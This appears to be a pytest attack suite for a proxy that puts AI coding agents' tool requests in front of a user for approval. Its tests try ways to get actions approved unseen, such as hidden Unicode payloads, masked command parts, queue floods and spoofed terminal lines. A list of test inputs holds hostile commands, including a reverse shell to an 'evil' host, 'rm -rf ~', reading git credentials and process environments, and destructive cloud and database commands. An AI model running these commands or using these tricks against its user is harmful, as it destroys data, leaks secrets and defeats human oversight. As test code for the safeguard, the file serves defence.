"""Cards that lie: what an agent, a script or a cloned folder would have the user approve unseen."""

from __future__ import annotations

import json
import select
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.attack.box import Served
from tests.attack.conftest import StartServe
from tests.pty.terminal import Terminal, program

pytestmark = pytest.mark.attack

SECONDS = 20.0
FLOOD, SHARE = 520, 50
OTHER_PROCESS = """
import sys, urllib.request
request = urllib.request.Request(sys.argv[1], sys.argv[2].encode(), {"content-type": "application/json"})
print(urllib.request.urlopen(request).read().decode())
"""


class Front:
    """A front end on the proxy's socket, where only its own user is let in."""

    def __init__(self, served: Served) -> None:
        transport = httpx.HTTPTransport(uds=str(served.socket))
        self.http = httpx.Client(transport=transport, base_url="http://localhost", timeout=SECONDS, trust_env=False)

    def card(self, count: int = 1) -> dict[str, Any]:
        """The newest of the requests that wait, as front ends get it."""
        return self.cards(count)[-1]

    def cards(self, count: int = 1, text: str = "") -> list[dict[str, Any]]:
        """The requests that wait, once there are as many of them, and one with that text among them."""
        deadline = time.monotonic() + SECONDS
        while True:
            asks = [ask for ask in self._asks() if ask["status"] == "pending"]
            if len(asks) >= count and any(text in ask["input"] for ask in asks):
                return asks
            assert time.monotonic() < deadline, f"{len(asks)} of {count} requests are shown"
            time.sleep(0.05)

    def _asks(self) -> list[dict[str, Any]]:
        with self.http.stream("GET", "/control/frames/test?watch={}") as stream:
            for line in stream.iter_lines():
                if line.startswith("data:"):
                    return list(json.loads(line[5:]).get("asks") or [])
        return []

    def decide(self, name: str, **answer: Any) -> int:
        return self.http.post(f"/permissions/{name}/respond", json=answer).status_code


@pytest.fixture
def served(serve: StartServe) -> Served:
    return serve(PERMISSIONS__WITHOUT_FRONT_END="wait", PERMISSIONS__DECIDERS="any", HISTORY__ENABLED="true")


@pytest.fixture
def front(served: Served) -> Iterator[Front]:
    found = Front(served)
    yield found
    found.http.close()


@pytest.fixture
def asking() -> Iterator[ThreadPoolExecutor]:
    """Threads of clients that wait for their decisions; the proxy's end frees them."""
    pool = ThreadPoolExecutor(4)
    yield pool
    pool.shutdown(wait=False, cancel_futures=True)


def ask(served: Served, tool: str, given: Any, **more: Any) -> threading.Thread:
    """A client that waits for a decision, and is left behind."""
    body = {"tool_name": tool, "input": given, "client": "agent", **more}
    thread = threading.Thread(target=_post, args=(served, body), daemon=True)
    thread.start()
    return thread


def _post(served: Served, body: dict[str, Any]) -> None:
    try:
        served.request("POST", "/permissions", body)
    except OSError:
        pass  # the proxy has ended


# --- masked by the one that asks ---


@pytest.mark.parametrize("header", ["x-token", "authorization", "x-api-key", "cookie", "x-my-secret"])
def test_hide_a_part_of_a_command_by_sending_it_as_a_secret(served: Served, front: Front, header: str) -> None:
    hidden = "&&./scripts/deploy-to-production"
    served.request("POST", "/demo/v1/messages", {}, {header: hidden})
    ask(served, "Bash", {"command": f"npm run build {hidden}"})
    card = front.card()
    assert json.loads(card["input"])["command"] == f"npm run build {hidden}"
    assert "./scripts/deploy-to-production" in card["programs"]


@pytest.mark.parametrize(
    "shape", ["sk-ant-api03-deploydeploydeploy", "ghp_deploydeploydeploydeploy", "AKIADEPLOYDEPLOYDEPL"]
)
def test_hide_a_part_of_a_command_in_the_shape_of_a_key(served: Served, front: Front, shape: str) -> None:
    ask(served, "Bash", {"command": f"./{shape}"})
    assert json.loads(front.card()["input"])["command"] == f"./{shape}"


def test_blind_the_history_of_what_was_decided(served: Served, front: Front) -> None:
    for place, host in enumerate(("one", "two")):
        ask(served, "Bash", {"command": f"echo sk-ant-api03-{host * 10}"})
        front.decide(front.card()["id"], allowed=False)
        deadline = time.monotonic() + SECONDS
        while len(rows := front.http.get("/permissions/history").json()) <= place:
            assert time.monotonic() < deadline
            time.sleep(0.05)
    assert "sk-ant" not in json.dumps(rows), "what is kept stays masked"
    assert len({row["digest"] for row in rows}) == 2, "and yet tells two inputs apart"


# --- cut, or not seen ---


def test_say_yes_to_what_stands_behind_a_cut(served: Served, front: Front) -> None:
    tool = "x" * 300 + " and delete the backups"
    ask(served, tool, {})
    assert front.card()["tool"] == tool


@pytest.mark.parametrize(
    "text",
    [
        "".join(map(chr, range(0xFE00, 0xFE10))),
        "\ufe0f" * 5,
        "\u2800",
        "a\u0301\u0302\u0303\u0304\u0305",
        "\U000e0101",
    ],
)
def test_bring_a_payload_that_is_not_seen(served: Served, front: Front, text: str) -> None:
    ask(served, "Write", {"file_path": "a.js", "content": f"eval(`{text}`)"})
    card = front.card()
    assert card["high"]
    assert any(note.startswith("holds hidden characters") for note in card["notes"])


@pytest.mark.parametrize(
    "url", ["https://evil.example\\@github.com/x", "https://evil.example\\.github.com/", "http://0x7f.1/"]
)
def test_name_another_host_than_the_one_that_is_fetched(served: Served, front: Front, url: str) -> None:
    ask(served, "WebFetch", {"url": url})
    card = front.card()
    assert card["high"]
    assert any("an address that can't be read" in note for note in card["notes"])


def test_write_outside_of_the_project_by_a_link_in_it(served: Served, front: Front, folder: Path) -> None:
    victim = folder.parent / "victim_bashrc"
    victim.write_text("")
    (folder / "notes.md").symlink_to(victim)
    ask(served, "Write", {"file_path": "notes.md", "content": "x"}, cwd=str(folder))
    card = front.card()
    assert card["high"]
    assert any("is a link to" in note and "victim_bashrc" in note for note in card["notes"])


QUIET = [
    ("Bash", {"command": "$'\\x72m' -rf ~"}),
    ("Bash", {"command": "/bin/r? -rf ~"}),
    ("Bash", {"command": "bash -i >& /dev/tcp/evil/1 0>&1"}),
    ("Bash", {"command": "docker run --privileged -v /:/h alpine"}),
    ("Bash", {"command": "curl --unix-socket $XDG_RUNTIME_DIR/ccproxy/8000.sock http://x/permissions/a/respond"}),
    ("Bash", {"command": "tmux send-keys -t 0 a"}),
    ("Bash", {"command": "LD_PRELOAD=./x.so ls"}),
    ("Bash", {"command": "PATH=/tmp:$PATH ls"}),
    ("Bash", {"command": "terraform destroy"}),
    ("Bash", {"command": "kubectl delete ns prod"}),
    ("Bash", {"command": 'psql -c "DROP TABLE users"'}),
    ("Bash", {"command": "> important.txt"}),
    ("Bash", {"command": "printenv"}),
    ("Bash", {"command": "cat ~/.git-credentials"}),
    ("Bash", {"command": "cat /proc/1/environ"}),
    ("Write", {"file_path": ".git/hooks/pre-commit", "content": "x"}),
    ("Write", {"file_path": ".claude/settings.json", "content": "{}"}),
    ("Write", {"file_path": ".ccproxy.toml", "content": ""}),
    ("Write", {"file_path": ".envrc", "content": ""}),
    ("Write", {"file_path": ".mcp.json", "content": ""}),
    ("mcp__fs__write_file", {"path": ".vscode/tasks.json", "content": ""}),
]


def test_ask_for_something_grave_in_words_that_nothing_notes(served: Served, front: Front, folder: Path) -> None:
    quiet = []
    for tool, given in QUIET:
        ask(served, tool, given, cwd=str(folder))
        card = front.card()
        front.decide(card["id"], allowed=False)
        quiet += [] if card.get("high") else [given]
    assert quiet == []


def test_have_a_patch_approved_by_its_number_of_lines(served: Served, front: Front) -> None:
    patch = "*** Begin Patch\n*** Update File: a.py\n@@ def f():\n-x\n+import os; os.system('evil')\n*** End Patch"
    ask(served, "apply_patch", {"command": patch})
    assert front.card()["preview"] == ["update a.py", "@@ def f():", "-x", "+import os; os.system('evil')"]


# --- odd input, floods ---


@pytest.mark.parametrize(
    ("tool", "given", "more"),
    [
        ("Write", {"file_path": "a\0b", "content": "x"}, {}),
        ("Edit", {"file_path": "x" * 5000, "old_string": "a", "new_string": "b"}, {}),
        ("Bash", {"command": "ls"}, {"cwd": "/a\0b"}),
        ("Write", {"file_path": "a", "content": "x"}, {"cwd": "/a\0b"}),
        ("MultiEdit", {"file_path": "a", "edits": [None, 1, "x"]}, {}),
        ("WebFetch", {"url": "http://[::1\0"}, {}),
        ("Bash", 12345678901234567890123, {}),
    ],
)
def test_leave_the_asker_without_an_answer(
    served: Served, front: Front, asking: ThreadPoolExecutor, tool: str, given: Any, more: dict[str, str]
) -> None:
    waiting = asking.submit(served.request, "POST", "/permissions", {"tool_name": tool, "input": given, **more})
    front.decide(front.card()["id"], allowed=False)
    status, answer = waiting.result(SECONDS)
    assert (status, json.loads(answer)["allowed"]) == (200, False)


@pytest.fixture
def flood(served: Served) -> Iterator[list[socket.socket]]:
    """One process that asks many times, each over a connection of its own."""
    connections = []
    for number in range(FLOOD):
        body = json.dumps({"tool_name": "Bash", "input": {"command": f"echo {number}"}, "client": "flood"}).encode()
        head = "POST /permissions HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
        connections.append(socket.create_connection(("127.0.0.1", served.port), SECONDS))
        connections[-1].sendall(f"{head}content-length: {len(body)}\r\n\r\n".encode() + body)
    yield connections
    for connection in connections:
        connection.close()


def test_flood_the_list_so_that_no_other_request_is_shown(
    served: Served, front: Front, flood: list[socket.socket], asking: ThreadPoolExecutor
) -> None:
    front.cards(SHARE)
    refused, _, _ = select.select(flood[-1:], [], [], SECONDS)
    assert refused[0].recv(12) == b"HTTP/1.1 429", "beyond its share and its queue"
    honest = {"tool_name": "Bash", "input": {"command": "echo honest"}}
    other = [sys.executable, "-c", OTHER_PROCESS, f"http://127.0.0.1:{served.port}/permissions", json.dumps(honest)]
    waiting = asking.submit(subprocess.run, other, capture_output=True, check=False, timeout=60)
    cards = front.cards(SHARE + 1, text="honest")
    assert len(cards) - 1 <= 2 * SHARE, "until many wait, no process is looked for"
    [card] = [card for card in cards if "honest" in card["input"]]
    assert front.decide(card["id"], allowed=True) == 200
    assert json.loads(waiting.result(SECONDS).stdout)["allowed"]
    front.decide(cards[-2]["id"], allowed=False)
    assert len(front.cards(len(cards) - 1)) == len(cards) - 1, "the next one of the flood has its turn"


# --- another thing than was shown ---


def test_change_the_file_after_its_difference_was_shown(served: Served, front: Front, folder: Path) -> None:
    (folder / "a.py").write_text("one\n")
    ask(served, "Write", {"file_path": "a.py", "content": "two\n"}, cwd=str(folder))
    card = front.card()
    assert "-one" in card["preview"]
    (folder / "a.py").write_text("something else\n")
    assert front.decide(card["id"], allowed=True) == 409
    again = front.card()
    assert "-something else" in again["preview"]
    assert front.decide(card["id"], allowed=True) == 200


def test_have_another_input_kept_than_the_one_that_was_allowed(served: Served, front: Front) -> None:
    ask(served, "Bash", {"command": "echo asked"})
    name = front.card()["id"]
    front.decide(name, allowed=True, input={"command": "echo edited"})
    shown = front.http.get(f"/permissions/{name}").json()
    assert (shown["input"], shown["original_input"]) == ({"command": "echo edited"}, {"command": "echo asked"})
    deadline = time.monotonic() + SECONDS
    while not (rows := front.http.get("/permissions/history").json()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert [json.loads(rows[0][part]) for part in ("input", "original")] == [shown["input"], shown["original_input"]]


# --- on the screen ---


def test_fake_a_line_of_the_card_in_a_terminal(served: Served, front: Front, folder: Path) -> None:
    fake = "x\n$ git status\n! no risk\n" + "y" * 70 + "  $ git log \u202e"
    terminal = Terminal(program("attach", "--plain"), columns=80, lines=60)
    try:
        terminal.wait_for("proxy up")
        ask(served, "Bash", {"command": "make", "description": fake})
        terminal.wait_for("type allow 1")
        lines = terminal.text.splitlines()
        assert [line for line in lines if line.strip().startswith("$ ")] == ["  $ make"]
        assert not any(line.strip().startswith("! no risk") for line in lines)
        assert "  | $ git status" in lines
        assert "\\u202e" in terminal.text
    finally:
        terminal.close()
